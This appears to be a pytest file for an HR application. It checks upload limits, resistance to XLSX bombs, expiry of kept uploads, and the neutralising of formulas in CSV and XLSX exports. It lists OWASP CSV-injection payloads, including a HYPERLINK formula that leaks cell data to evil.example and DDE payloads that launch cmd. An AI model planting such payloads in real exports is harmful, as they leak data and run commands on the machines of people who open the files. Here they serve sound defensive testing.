"""Uploads cost bounded work and are refused clearly beyond it; kept uploads expire; exports never
carry a live formula or a character that breaks the file."""

from __future__ import annotations

import csv
import io
import itertools
import os
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from flask_babel import force_locale
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.test import encode_multipart

from hrapp.core import importing
from hrapp.core.import_page import sweep_uploads
from hrapp.extensions import db
from hrapp.officers.models import Officer
from tests.conftest import client_as as signed_in
from tests.officers.test_import import HEADER, csv_file, good_rows


@pytest.fixture(autouse=True)
def english():
    with force_locale("en"):
        yield


def client_as(app, world, role, isolated=True):
    client = signed_in(app, world, role, isolated=isolated)
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


# The payloads listed by OWASP's CSV-injection page, and the classic DDE ones.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "＝1+2",
]


def xlsx_bytes(rows) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_sheet(data: bytes, change) -> io.BytesIO:
    """A copy of the workbook with sheet1.xml passed through `change(xml) -> xml`."""
    source, target = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            body = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = change(body.decode()).encode()
            out.writestr(item, body)
    target.seek(0)
    return target


# --- the request body limit ----------------------------------------------------------------


def test_an_upload_over_the_configured_limit_is_refused_with_a_clear_413(app, world):
    assert app.config["MAX_CONTENT_LENGTH"] == 10 * 1024 * 1024
    client = client_as(app, world, "hr_clerk", isolated=True)
    big = FileStorage(io.BytesIO(b"employee_no\n" + b"N" * (11 * 1024 * 1024)), "officers.csv")
    # Encoded in memory: the test client would spool so large a body to a file it never closes.
    boundary, body = encode_multipart(MultiDict({"file": big}))

    response = client.post("/officers/import", data=body, content_type=f"multipart/form-data; boundary={boundary}")

    assert response.status_code == 413
    assert "the limit is 10 MB" in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count(Officer.id))) == 3


def test_a_csv_with_a_huge_cell_is_refused_with_a_message_not_a_crash():
    stream = io.BytesIO(b"employee_no,name\nN1," + b"x" * 300_000 + b"\n")

    with pytest.raises(importing.ImportFileError, match="a cell is too long"):
        list(importing.read_table(stream, "officers.csv"))


def test_a_csv_with_a_huge_cell_is_reported_on_the_page(app, world):
    client = client_as(app, world, "hr_clerk", isolated=True)
    stream = io.BytesIO(",".join(HEADER).encode() + b"\nN1," + b"x" * 300_000 + b"\n")

    response = client.post("/officers/import", data={"file": (stream, "officers.csv")})

    assert response.status_code == 200
    assert "a cell is too long" in response.get_data(as_text=True)


# --- the work an XLSX may cause ------------------------------------------------------------


def test_an_xlsx_declaring_a_sheet_of_a_million_rows_and_16384_columns_reads_only_its_cells():
    data = xlsx_bytes([["employee_no", "name"], ["N1", "张三"]])
    stream = rewrite_sheet(data, lambda xml: xml.replace('ref="A1:B2"', 'ref="A1:XFD1048576"'))
    assert len(stream.getvalue()) < 10_000

    started = time.monotonic()
    rows = list(itertools.islice(importing.read_table(stream, "bomb.xlsx"), 10))

    assert rows == [["employee_no", "name"], ["N1", "张三"]]
    assert time.monotonic() - started < 2


def test_rows_read_are_bounded_blank_ones_included(app, monkeypatch):
    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS_READ", 1000)
    data = xlsx_bytes([["employee_no", "name"], ["N1", "张三"]])
    # One more cell, a million rows down: everything between reads as blank rows.
    stream = rewrite_sheet(
        data,
        lambda xml: xml.replace(
            "</sheetData>", '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        ),
    )

    with pytest.raises(importing.ImportFileError, match="more than 1000 rows"):
        list(importing.read_table(stream, "far.xlsx"))


def test_a_value_beyond_the_column_limit_is_refused_not_dropped(app):
    far = ["employee_no", "name"] + [None] * 200 + ["hidden"]
    with pytest.raises(importing.ImportFileError, match="more than 100 columns"):
        list(importing.read_table(io.BytesIO(xlsx_bytes([far])), "wide.xlsx"))
    with pytest.raises(importing.ImportFileError, match="more than 100 columns"):
        list(importing.read_table(io.BytesIO(("a," * 150 + "b\n").encode()), "wide.csv"))


def test_reading_stops_at_the_time_limit(app, monkeypatch):
    monkeypatch.setitem(app.config, "IMPORT_MAX_SECONDS", -1)

    with pytest.raises(importing.ImportFileError, match="took too long"):
        list(importing.read_table(io.BytesIO(xlsx_bytes([["a"], ["b"]])), "slow.xlsx"))


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_before_parsing(app, monkeypatch):
    monkeypatch.setitem(app.config, "IMPORT_MAX_UNPACKED_BYTES", 2000)
    data = xlsx_bytes([["a"] * 50 for _ in range(50)])

    with pytest.raises(importing.ImportFileError, match="unpacks to more data"):
        list(importing.read_table(io.BytesIO(data), "bomb.xlsx"))


def test_a_file_that_is_not_a_workbook_is_refused(app):
    with pytest.raises(importing.ImportFileError, match="not a readable XLSX"):
        list(importing.read_table(io.BytesIO(b"PK\x03\x04 not really"), "x.xlsx"))


# --- kept uploads expire -------------------------------------------------------------------


def _uploads(app) -> list[Path]:
    folder = Path(app.config["INSTANCE_DIR"]) / "uploads"
    return sorted(folder.iterdir()) if folder.exists() else []


def _check(client, world, name="officers.csv"):
    response = client.post("/officers/import", data={"file": (csv_file(good_rows(world)), name)})
    assert response.status_code == 200
    return response


def test_a_new_upload_replaces_the_users_previous_one_and_old_uploads_are_swept(app, world):
    for path in _uploads(app):
        path.unlink()
    client = client_as(app, world, "hr_clerk", isolated=True)
    _check(client, world)
    [first] = _uploads(app)
    stranger = Path(app.config["INSTANCE_DIR"]) / "uploads" / "abandoned.csv"
    stranger.write_bytes(b"x" * 1000)
    three_hours_ago = time.time() - 3 * 3600
    os.utime(stranger, (three_hours_ago, three_hours_ago))

    _check(client, world)

    remaining = _uploads(app)
    assert first not in remaining, "the user's previous upload is gone"
    assert stranger not in remaining, "an upload older than UPLOAD_MAX_AGE_SECONDS is gone"
    assert len(remaining) == 1


def test_an_expired_upload_cannot_be_confirmed(app, world):
    client = client_as(app, world, "hr_clerk", isolated=True)
    _check(client, world)
    with client.session_transaction() as session:
        token = session["pending_import"]["token"]
    [kept] = [path for path in _uploads(app) if path.name.startswith(token)]
    old = time.time() - app.config["UPLOAD_MAX_AGE_SECONDS"] - 60
    os.utime(kept, (old, old))

    response = client.post("/officers/import", data={"token": token}, follow_redirects=True)

    assert "That import has expired" in response.get_data(as_text=True)
    assert not kept.exists()
    assert db.session.scalar(sa.select(sa.func.count(Officer.id))) == 3


def test_the_sweep_keeps_fresh_uploads(app):
    folder = Path(app.config["INSTANCE_DIR"]) / "uploads"
    folder.mkdir(parents=True, exist_ok=True)
    fresh = folder / "fresh.csv"
    fresh.write_text("a")

    sweep_uploads()

    assert fresh.exists()
    fresh.unlink()


# --- exports -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_no_exported_cell_starts_a_formula(payload):
    rows = [[payload, 1, None]]

    sheet = openpyxl.load_workbook(io.BytesIO(importing.write_xlsx(["h", "n", "e"], rows))).active
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")
    assert sheet["B2"].value == 1, "numbers stay numbers"

    text = importing.write_csv(["h", "n", "e"], rows).decode("utf-8-sig")
    [_, row] = list(csv.reader(io.StringIO(text)))
    assert row[0] == "'" + payload
    assert row[1] == "1"


def test_an_officer_named_like_a_formula_is_exported_as_text(app, world):
    world.officer.name = '=HYPERLINK("http://evil.example","点我")'
    db.session.commit()
    client = client_as(app, world, "hr_clerk", isolated=True)

    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/officers/export.xlsx").data))
    names = [row[1] for row in workbook.active.iter_rows(min_row=2, values_only=True)]
    assert '\'=HYPERLINK("http://evil.example","点我")' in names
    assert not any(str(name).startswith("=") for name in names)

    text = client.get("/officers/export.csv").data.decode("utf-8-sig")
    assert not any(row[1].startswith("=") for row in csv.reader(io.StringIO(text)))


def test_a_control_character_already_stored_does_not_break_the_xlsx_export(app, world):
    world.officer.name = "张\x07三"
    db.session.commit()
    client = client_as(app, world, "hr_clerk", isolated=True)

    response = client.get("/officers/export.xlsx")

    assert response.status_code == 200
    names = [row[1] for row in openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)]
    assert "张三" in names
